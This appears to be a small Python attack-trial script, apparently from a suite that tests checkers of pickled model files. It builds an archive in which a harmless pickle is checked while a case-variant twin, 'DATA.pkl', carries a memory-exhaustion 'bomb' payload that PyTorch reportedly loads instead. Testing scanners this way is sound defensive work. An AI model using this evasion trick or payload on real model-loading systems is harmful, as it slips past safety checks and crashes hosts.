"""Two pickles of one name: Python checks one; PyTorch, ignoring case, loads the other, a bomb."""

from __future__ import annotations

from pathlib import Path

from attacks.trial import archive, main, write_sealed

HARMLESS = b"\x80\x02}."
BOMB = b"\x80\x02cbuiltins\nbytearray\nJ\x00\x00\x00\x30\x85R."


def attack(folder: Path) -> Path:
    return write_sealed(folder, archive(HARMLESS, ("DATA.pkl", BOMB)))


if __name__ == "__main__":
    main(attack)
